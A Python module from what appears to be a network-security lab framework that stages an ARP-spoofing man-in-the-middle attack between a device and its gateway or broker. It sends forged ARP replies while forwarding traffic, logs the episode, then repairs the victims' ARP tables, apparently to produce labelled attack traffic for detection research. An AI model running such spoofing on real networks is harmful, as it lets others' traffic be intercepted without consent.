"""Man in the middle: false ARP replies between a device and its gateway or broker, forwarding in between, then repair.

The flows themselves are the victim's own; the journal knows the interval and the pair, and derives their family.
Source: RFC 826; the forwarding is the attacker's own kernel's.
"""

import asyncio
import random
import time
from typing import ClassVar

from redshank.lab import packets
from redshank.lab.attack import Attack, Episode
from redshank.lab.scene import Scene

INTERVAL_S = 0.4
LENGTH_S = (16.0, 24.0)
REPAIRS = 8


class Mitm(Attack):
    """Lead the path between two devices through a third."""

    variants: ClassVar = ("gateway", "broker")
    victims: ClassVar = {"gateway": ("people", "hub"), "broker": ("sensors",)}
    episodes: ClassVar = 4

    async def run(self, episode: Episode, scene: Scene, rng: random.Random) -> None:
        """Spoof for a while, then put both tables right again."""
        if scene.forward is None or scene.neighbors is None:
            return
        attacker, victim = scene.hosts[episode.attackers[0]], scene.hosts[episode.victim]
        peer = scene.hosts[episode.variant]
        macs = scene.macs
        own = macs[attacker.name]
        lie = [
            packets.arp_reply(own, (peer.ip, own), (victim.ip, macs[victim.name])),
            packets.arp_reply(own, (victim.ip, own), (peer.ip, macs[peer.name])),
        ]
        truth = [
            packets.arp_reply(own, (peer.ip, macs[peer.name]), (victim.ip, macs[victim.name])),
            packets.arp_reply(own, (victim.ip, macs[victim.name]), (peer.ip, macs[peer.name])),
        ]
        spoofing = None
        scene.forward(attacker.name, True)
        with attacker.raw_link() as raw:
            try:
                end = time.monotonic() + rng.uniform(*LENGTH_S) * max(episode.scale, 0.3)
                while time.monotonic() < end:
                    for frame in lie:
                        attacker.send_arp(raw, frame)
                    await asyncio.sleep(0.02)
                    if spoofing is None and scene.neighbors(victim.name).get(peer.ip) == own:
                        beyond = scene.lan if peer.name == "gateway" else None
                        spoofing = attacker.journal.begin_spoofing(victim.ip, peer.ip, beyond)
                    await asyncio.sleep(INTERVAL_S * rng.uniform(0.7, 1.3))
            finally:
                for _ in range(REPAIRS):
                    for frame in truth:
                        attacker.send_arp(raw, frame)
                    # The kernel ignores a second change of an entry within one second.
                    await asyncio.sleep(0.3)
                    if scene.neighbors(victim.name).get(peer.ip) != own:
                        break
                if spoofing is not None:
                    attacker.journal.end_spoofing(spoofing)
                scene.forward(attacker.name, False)
